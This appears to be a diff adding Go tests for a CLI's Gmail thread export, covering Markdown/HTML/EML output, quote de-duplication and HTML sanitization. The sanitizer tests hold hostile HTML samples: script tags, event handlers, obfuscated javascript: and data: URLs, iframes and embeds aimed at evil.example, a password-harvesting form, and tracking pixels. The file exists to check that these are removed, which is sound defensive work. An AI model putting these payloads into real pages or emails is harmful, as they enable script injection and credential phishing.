@@ -0,0 +1,248 @@
+package cmd
+
+import (
+	"encoding/base64"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func b64url(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
+
+func newGmailThreadExportTestService(t *testing.T) {
+	t.Helper()
+
+	headers := func(from, subject string) []map[string]any {
+		return []map[string]any{
+			{"name": "From", "value": from},
+			{"name": "To", "value": "team@example.com"},
+			{"name": "Subject", "value": subject},
+			{"name": "Date", "value": "Mon, 2 Mar 2026 10:00:00 +0000"},
+		}
+	}
+	thread := map[string]any{
+		"id": "t1",
+		"messages": []map[string]any{
+			{
+				"id": "m1",
+				"payload": map[string]any{
+					"mimeType": "multipart/related",
+					"headers":  headers("Ann <ann@example.com>", "Launch plan"),
+					"parts": []map[string]any{
+						{"mimeType": "multipart/alternative", "parts": []map[string]any{
+							{"mimeType": "text/plain", "body": map[string]any{"data": b64url("Here is the launch plan.\n[image: chart.png]\nShip it Friday.")}},
+							{"mimeType": "text/html", "body": map[string]any{"data": b64url(`<html><head><style>p{}</style></head><body><p>Here is the launch plan.</p><img src="cid:chart@x"><p>Ship it Friday.</p><script>alert(1)</script></body></html>`)}},
+						}},
+						{"mimeType": "image/png", "filename": "chart.png", "headers": []map[string]any{{"name": "Content-ID", "value": "<chart@x>"}}, "body": map[string]any{"data": b64url("PNGDATA"), "size": 7}},
+						{"mimeType": "application/pdf", "filename": "plan.pdf", "body": map[string]any{"attachmentId": "att-1", "size": 3}},
+					},
+				},
+			},
+			{
+				"id": "m2",
+				"payload": map[string]any{
+					"mimeType": "multipart/alternative",
+					"headers":  headers("Bob <bob@example.com>", "Re: Launch plan"),
+					"parts": []map[string]any{
+						{"mimeType": "text/plain", "body": map[string]any{"data": b64url("Sounds good, see the attached notes.\n\nOn Mon, Mar 2, 2026 at 10:00 AM Ann <ann@example.com>\nwrote:\n> Here is the launch plan.\n> [image: chart.png]\n> Ship it Friday.\n")}},
+						{"mimeType": "text/html", "body": map[string]any{"data": b64url(`<div>Sounds good, see the attached notes.</div><div class="gmail_quote"><div class="gmail_attr">On Mon, Ann wrote:</div><blockquote>Here is the launch plan.<br>Ship it Friday.</blockquote></div>`)}},
+						{"mimeType": "application/pdf", "filename": "plan.pdf", "body": map[string]any{"attachmentId": "att-2", "size": 5}},
+					},
+				},
+			},
+		},
+	}
+
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		path := strings.TrimPrefix(r.URL.Path, "/gmail/v1/users/me")
+		switch {
+		case path == "/threads/t1":
+			_ = json.NewEncoder(w).Encode(thread)
+		case path == "/messages/m1/attachments/att-1":
+			_ = json.NewEncoder(w).Encode(map[string]any{"data": b64url("PDF"), "size": 3})
+		case path == "/messages/m2/attachments/att-2":
+			_ = json.NewEncoder(w).Encode(map[string]any{"data": b64url("PDFv2"), "size": 5})
+		case strings.HasPrefix(path, "/messages/") && r.URL.Query().Get("format") == "raw":
+			id := strings.TrimPrefix(path, "/messages/")
+			_ = json.NewEncoder(w).Encode(map[string]any{"id": id, "raw": b64url("Subject: " + id + "\r\n\r\nbody\r\n")})
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	t.Cleanup(srv.Close)
+
+	stubGmailService(t, srv)
+}
+
+func runGmailThreadExport(t *testing.T, args ...string) {
+	t.Helper()
+	_ = captureStderr(t, func() {
+		_ = captureStdout(t, func() {
+			if err := Execute(append([]string{"--account", "a@b.com", "gmail", "thread", "export", "t1"}, args...)); err != nil {
+				t.Fatalf("export: %v", err)
+			}
+		})
+	})
+}
+
+func readExportFile(t *testing.T, path string) string {
+	t.Helper()
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("read %s: %v", path, err)
+	}
+	return string(data)
+}
+
+func TestGmailThreadExport_Markdown(t *testing.T) {
+	newGmailThreadExportTestService(t)
+	dir := filepath.Join(t.TempDir(), "out")
+	runGmailThreadExport(t, "--out", dir)
+
+	md := readExportFile(t, filepath.Join(dir, "thread.md"))
+	for _, want := range []string{
+		"# Launch plan",
+		"## 1. Ann <ann@example.com>",
+		"**To:** team@example.com",
+		"![chart.png](attachments/chart.png)",
+		"Sounds good, see the attached notes.",
+		"- [plan.pdf](attachments/plan.pdf)",
+		"- [plan.pdf](attachments/plan-2.pdf)",
+	} {
+		if !strings.Contains(md, want) {
+			t.Fatalf("markdown missing %q:\n%s", want, md)
+		}
+	}
+	if strings.Count(md, "Ship it Friday.") != 1 || strings.Contains(md, "wrote:") {
+		t.Fatalf("quoted text should be de-duplicated:\n%s", md)
+	}
+	if got := readExportFile(t, filepath.Join(dir, "attachments", "plan-2.pdf")); got != "PDFv2" {
+		t.Fatalf("unexpected attachment content %q", got)
+	}
+	if got := readExportFile(t, filepath.Join(dir, "attachments", "chart.png")); got != "PNGDATA" {
+		t.Fatalf("unexpected inline image content %q", got)
+	}
+}
+
+func TestGmailThreadExport_HTMLAndEML(t *testing.T) {
+	newGmailThreadExportTestService(t)
+	dir := t.TempDir()
+	runGmailThreadExport(t, "--format", "html", "--out", dir)
+
+	doc := readExportFile(t, filepath.Join(dir, "thread.html"))
+	if !strings.Contains(doc, `<img src="attachments/chart.png"/>`) {
+		t.Fatalf("cid image not rewritten:\n%s", doc)
+	}
+	if strings.Contains(doc, "alert(1)") || strings.Contains(doc, "gmail_quote") || strings.Count(doc, "Ship it Friday.") != 1 {
+		t.Fatalf("expected scripts and repeated quotes removed:\n%s", doc)
+	}
+	if !strings.Contains(doc, "&lt;ann@example.com&gt;") {
+		t.Fatalf("headers must be escaped:\n%s", doc)
+	}
+
+	emlDir := t.TempDir()
+	runGmailThreadExport(t, "--format", "eml", "--out", emlDir)
+	if got := readExportFile(t, filepath.Join(emlDir, "02-m2.eml")); !strings.HasPrefix(got, "Subject: m2") {
+		t.Fatalf("unexpected eml: %q", got)
+	}
+}
+
+func TestSplitQuotedText(t *testing.T) {
+	cases := []struct {
+		name, body, own string
+		quoted          bool
+	}{
+		{name: "gmail", body: "Thanks!\n\nOn Tue, Bob wrote:\n> hi\n> there\n", own: "Thanks!", quoted: true},
+		{name: "outlook", body: "Done.\n\n-----Original Message-----\nFrom: A\nSent: today\nSubject: x\n\nold", own: "Done.", quoted: true},
+		{name: "outlook headers", body: "Done.\n\nFrom: A\nSent: today\nTo: b\nSubject: x\n\nold", own: "Done.", quoted: true},
+		{name: "interleaved", body: "> question?\nanswer\n", own: "> question?\nanswer\n"},
+		{name: "none", body: "Just text", own: "Just text"},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			own, quoted := splitQuotedText(tc.body)
+			if own != tc.own || (quoted != "") != tc.quoted {
+				t.Fatalf("got own=%q quoted=%q", own, quoted)
+			}
+		})
+	}
+}
+
+func TestCleanThreadExportHTML_KeepsNovelQuotes(t *testing.T) {
+	src := `<p>See below</p><blockquote type="cite">Something never seen before</blockquote>`
+	got := cleanThreadExportHTML(src, nil, []string{"unrelated earlier message"}, false)
+	if !strings.Contains(got, "never seen before") {
+		t.Fatalf("quote without an earlier match must stay: %s", got)
+	}
+}
+
+func TestCleanThreadExportHTML_Sanitizes(t *testing.T) {
+	inline := map[string]string{"logo@x": "attachments/logo.png"}
+	cases := []struct {
+		name, src  string
+		want, gone []string
+	}{
+		{
+			name: "event handlers",
+			src:  `<p onclick="steal()" ONMOUSEOVER="x()">hi</p><img src="cid:logo@x" onerror="boom()">`,
+			want: []string{"<p>hi</p>", `<img src="attachments/logo.png"/>`},
+			gone: []string{"steal", "x()", "boom"},
+		},
+		{
+			name: "javascript urls",
+			src:  `<a href="javascript:alert(1)">a</a><a href=" jav&#x09;ascript:alert(2)">b</a><a href="https://example.com/">c</a>`,
+			want: []string{"<a>a</a>", "<a>b</a>", `<a href="https://example.com/">c</a>`},
+			gone: []string{"alert"},
+		},
+		{
+			name: "data urls",
+			src:  `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><img src="data:image/svg+xml,<svg onload=alert(1)>"><img src="data:image/png;base64,iVBOR">`,
+			want: []string{"<a>x</a>", `<img src="data:image/png;base64,iVBOR"/>`},
+			gone: []string{"text/html", "svg+xml"},
+		},
+		{
+			name: "iframes",
+			src:  `<p>before</p><iframe src="https://evil.example/"></iframe><p>after</p>`,
+			want: []string{"<p>before</p><p>after</p>"},
+			gone: []string{"iframe", "evil"},
+		},
+		{
+			name: "objects and embeds",
+			src:  `<object data="https://evil.example/x.swf"><embed src="https://evil.example/y.swf"></object><p>text</p>`,
+			want: []string{"<p>text</p>"},
+			gone: []string{"object", "embed", "swf"},
+		},
+		{
+			name: "forms",
+			src:  `<form action="https://evil.example/collect" method="post"><p>Confirm your password</p><input type="password" name="pw"><button>Send</button></form>`,
+			want: []string{"<p>Confirm your password</p>"},
+			gone: []string{"form", "input", "button", "collect"},
+		},
+		{
+			name: "remote images",
+			src:  `<img src="https://track.example/pixel.gif?u=1" width="1" height="1"><img src="//track.example/p.gif"><table><tr><td background="http://track.example/bg.gif">x</td></tr></table><p style="background:url(https://track.example/css.gif)">y</p>`,
+			want: []string{`<img data-remote-src="https://track.example/pixel.gif?u=1" width="1" height="1"/>`, `data-remote-src="//track.example/p.gif"`, "<td>x</td>", "<p>y</p>"},
+			gone: []string{` src="https://track`, ` src="//track`, "bg.gif", "css.gif"},
+		},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			got := cleanThreadExportHTML(tc.src, inline, nil, false)
+			for _, want := range tc.want {
+				if !strings.Contains(got, want) {
+					t.Fatalf("missing %q in:\n%s", want, got)
+				}
+			}
+			for _, gone := range tc.gone {
+				if strings.Contains(got, gone) {
+					t.Fatalf("%q must be removed from:\n%s", gone, got)
+				}
+			}
+		})
+	}
+}